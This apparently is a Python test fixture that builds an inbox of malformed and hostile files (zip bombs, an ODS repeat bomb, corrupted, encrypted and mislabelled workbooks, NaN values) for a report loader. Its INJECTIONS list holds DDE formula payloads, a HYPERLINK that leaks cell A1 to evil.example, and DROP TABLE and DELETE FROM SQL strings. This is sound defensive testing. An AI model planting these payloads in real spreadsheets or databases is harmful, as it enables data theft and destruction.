"""An inbox of hostile and awkward files, one of each kind, and what the loader must make of it.

Bad files must be rejected with a reason; awkward but valid files (odd names, formula-like
sub-unit names) must load, with their text kept byte for byte. Valid files report year 2017,
which the sample does not cover, so they never supersede a sample report.
"""

from __future__ import annotations

import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl

from tests.ingest.builders import (
    MINIMAL_PDF,
    Grid,
    encrypted_ooxml_bytes,
    report_grid,
    write_csv,
    write_ods_repeat_bomb,
    write_xlsx,
    write_zip_bomb_xlsx,
    xls_bytes,
)

YEAR = 2017
MIB = 1024 * 1024
# Kept as text, never executed, and stored byte for byte.
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE raw.submissions; --",
    "-2+3+cmd|' /C calc'!A0",
    "Robert'); DELETE FROM raw.received_files; --",
)
LONG_NAME = "bao-cao-" + "x" * 187 + ".xlsx"  # 200 characters
assert len(LONG_NAME) == 200


@dataclass(frozen=True)
class Expect:
    """What the loader must do with one file: load it, or reject it with `code`."""

    loads: bool
    code: str | None = None
    unit_code: str | None = None  # for files that load
    why: str = ""


def _pbgdpl(unit_code: str, subunits: tuple[str, ...], *, year: object = YEAR,
            unit_name: str | None = None) -> Grid:
    rows = [(name, {"sessions": 10 + i, "attendees": 100 + i, "documents": 5})
            for i, name in enumerate(subunits)]
    total = {"sessions": sum(10 + i for i in range(len(subunits))),
             "attendees": sum(100 + i for i in range(len(subunits))),
             "documents": 5 * len(subunits)}
    return report_grid("PBGDPL", [*rows, ("Tổng cộng", total)], unit_name=unit_name,
                       unit_code=unit_code, year=year)


def _good_xlsx(path: Path, unit_code: str, subunits: tuple[str, ...] = ("Huyện A", "Huyện B")
               ) -> Path:
    return write_xlsx(path, {"PBGDPL": _pbgdpl(unit_code, subunits)})


def _patch_sheet_xml(source: Path, target: Path, old: bytes, new: bytes) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                assert old in data, (old, data[:400])
                data = data.replace(old, new)
            dst.writestr(info, data)
    return target


def _corrupt_dimensions_xls() -> bytes:
    """An .xls whose DIMENSIONS record says the first row comes after the last: the native
    reader computes a negative size and asks for terabytes (it used to abort the load)."""
    data = bytearray(xls_bytes({"PBGDPL": _pbgdpl("STP-02", ("Huyện A",)).cells}))
    record = data.find(b"\x00\x02\x0e\x00")  # type 0x0200, length 14
    assert record > 0
    struct.pack_into("<I", data, record + 4, 0x4000)  # rwMic: first row 16384, after rwMac
    return bytes(data)


def write_hostile_inbox(inbox: Path, template: Path) -> dict[str, Expect]:
    """Write the hostile files into `inbox`; `template` is a real sample workbook."""
    inbox.mkdir(parents=True, exist_ok=True)
    expect: dict[str, Expect] = {}

    def bad(name: str, data: bytes, code: str, why: str) -> None:
        (inbox / name).write_bytes(data)
        expect[name] = Expect(False, code, why=why)

    good_bytes = template.read_bytes()
    bad("bi-cat-ngang.xlsx", good_bytes[: len(good_bytes) // 2], "unreadable", "truncated xlsx")
    flipped = bytearray(good_bytes)
    with zipfile.ZipFile(template) as archive:
        info = max(archive.infolist(), key=lambda i: i.compress_size)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 20, start + min(info.compress_size, 400), 7):
        flipped[i] ^= 0xA5
    bad("hong-ben-trong.xlsx", bytes(flipped), "unreadable", "bytes flipped inside a member")
    write_zip_bomb_xlsx(inbox / "bom-nen.xlsx", template, inflated_bytes=400 * MIB)
    expect["bom-nen.xlsx"] = Expect(False, "too_large", why="sheet inflates to 400 MB")
    write_ods_repeat_bomb(inbox / "bom-lap.ods", rows=1_000_000, cols=1_000)
    expect["bom-lap.ods"] = Expect(False, "too_large", why="ODS repeats: 10^9 cells")
    bad("ban-in.xlsx", MINIMAL_PDF, "unreadable", "a PDF named .xlsx")
    # A real report's bytes (its own content: the sample's files are in the same inbox, and
    # identical content would be recognised as that file by its hash) named .csv.
    renamed = _good_xlsx(inbox / ".tmp-renamed.xlsx", "STP-02")
    bad("xlsx-doi-ten.csv", renamed.read_bytes(), "unreadable", "xlsx bytes named .csv")
    renamed.unlink()
    csv_bytes = write_csv(inbox / ".tmp-csv", [("STP-10", YEAR, "PBGDPL", "", "sessions", 1)])
    bad("csv-doi-ten.xlsx", csv_bytes.read_bytes(), "unreadable", "CSV named .xlsx")
    csv_bytes.unlink()
    bad("mat-khau.xlsx", encrypted_ooxml_bytes(), "unreadable", "password-protected xlsx")
    bad("hong-kich-thuoc.xls", _corrupt_dimensions_xls(), "unreadable",
        "xls whose DIMENSIONS record would make the native reader abort")
    # Larger than max_file_bytes (50 MiB), sparse on disk: must be refused from its size.
    with open(inbox / "qua-lon.xlsx", "wb") as handle:
        handle.truncate(60 * MIB)
    expect["qua-lon.xlsx"] = Expect(False, "too_large", why="60 MiB, over max_file_bytes")

    # Numbers beyond 64 bits, NaN and infinity: in numeric cells and as text.
    huge = report_grid("PBGDPL", [("Tổng cộng", {"sessions": 2**70, "attendees": 1})],
                       unit_name=None, unit_code="STP-04", year=YEAR)
    write_xlsx(inbox / "so-qua-lon.xlsx", {"PBGDPL": huge})
    expect["so-qua-lon.xlsx"] = Expect(False, "not_a_number", why="numeric cell 2**70")
    nan_cell = report_grid("PBGDPL", [("Tổng cộng", {"sessions": 987654321, "attendees": 1})],
                           unit_name=None, unit_code="STP-11", year=YEAR)
    plain = write_xlsx(inbox / ".tmp-nan.xlsx", {"PBGDPL": nan_cell})
    _patch_sheet_xml(plain, inbox / "o-nan.xlsx", b"<v>987654321</v>", b"<v>NaN</v>")
    _patch_sheet_xml(plain, inbox / "o-vo-cuc.xlsx", b"<v>987654321</v>", b"<v>-INF</v>")
    plain.unlink()
    expect["o-nan.xlsx"] = Expect(False, "not_a_number", why="numeric cell NaN")
    expect["o-vo-cuc.xlsx"] = Expect(False, "not_a_number", why="numeric cell -infinity")
    for name, value in (("so-64-bit.csv", "18446744073709551616"), ("nan.csv", "NaN"),
                        ("vo-cuc.csv", "Infinity")):
        write_csv(inbox / name, [("STP-12", YEAR, "PBGDPL", "", "sessions", value)])
        expect[name] = Expect(False, "not_a_number", why=f"CSV value {value}")

    # Formulas: as a unit name (text), and a real formula cell as a sub-unit name.
    write_xlsx(inbox / "ten-don-vi-cong-thuc.xlsx",
               {"PBGDPL": _pbgdpl(None, ("Huyện A",), unit_name=INJECTIONS[0])})  # type: ignore[arg-type]
    expect["ten-don-vi-cong-thuc.xlsx"] = Expect(False, "unit_unknown",
                                                 why="formula text as the unit name")
    formula = _pbgdpl("STP-14", ("Huyện A",))
    formula.set(*formula.find("Huyện A"), "=1+1")
    path = write_xlsx(inbox / "cong-thuc-that.xlsx", {"PBGDPL": formula})
    workbook = openpyxl.load_workbook(path)
    for row in workbook["PBGDPL"].iter_rows():
        for cell in row:
            if cell.value == "=1+1":
                cell.data_type = "f"  # a real formula, no cached value: never evaluated
    workbook.save(path)
    expect["cong-thuc-that.xlsx"] = Expect(False, "unit_missing",
                                           why="a real formula (no cached value) as sub-unit")

    # SQL in the codes of a CSV: rejected as unknown, never executed.
    write_csv(inbox / "sql-ma-don-vi.csv",
              [("STP-10'; DROP TABLE raw.submissions; --", YEAR, "PBGDPL", "", "sessions", 1)])
    expect["sql-ma-don-vi.csv"] = Expect(False, "unit_unknown", why="SQL in unit_code")
    write_csv(inbox / "sql-ma-bieu.csv",
              [("STP-20", YEAR, "PBGDPL'); DELETE FROM raw.received_files; --", "", "sessions",
                1)])
    expect["sql-ma-bieu.csv"] = Expect(False, "unknown_form", why="SQL in form")

    # Valid files that must load: odd names, and formula-like / SQL-like sub-unit names.
    for name, unit in (("Báo cáo Lào Cai 2017.xlsx", "STP-10"),
                       ("bao cao co  dau cach .xlsx", "THADS-04"),
                       ("bao\ncao xuong dong.xlsx", "THADS-11"),
                       ("-rf.xlsx", "THADS-12"),
                       (LONG_NAME, "THADS-14")):
        grid = _pbgdpl(unit, ("Huyện A", "Huyện B")) if unit.startswith("STP") else None
        if grid is None:  # a THADS unit sends the enforcement form
            grid = report_grid("THADS_VIEC", [("Tổng cộng", {
                "carried_over": 10, "new": 20, "accepted": 30, "entrusted": 0, "revoked": 0,
                "to_enforce": 30, "eligible": 20, "not_eligible": 10, "completed": 15,
                "terminated": 1, "resolved": 16, "carried_forward": 14})],
                unit_name=None, unit_code=unit, year=YEAR)
            write_xlsx(inbox / name, {"THADS_VIEC": grid})
        else:
            write_xlsx(inbox / name, {"PBGDPL": grid})
        expect[name] = Expect(True, unit_code=unit, why="awkward file name")
    write_xlsx(inbox / "ten-don-vi-con-doc-hai.xlsx",
               {"PBGDPL": _pbgdpl("STP-20", INJECTIONS)})
    expect["ten-don-vi-con-doc-hai.xlsx"] = Expect(True, unit_code="STP-20",
                                                   why="injection strings as sub-unit names")
    write_csv(inbox / "ten-don-vi-con-doc-hai.csv",
              [("THADS-20", YEAR, "THADS_VIEC", name, "new", i + 1)
               for i, name in enumerate(INJECTIONS)])
    expect["ten-don-vi-con-doc-hai.csv"] = Expect(True, unit_code="THADS-20",
                                                  why="injection strings as CSV sub-units")
    return expect


__all__ = ["INJECTIONS", "LONG_NAME", "Expect", "write_hostile_inbox"]
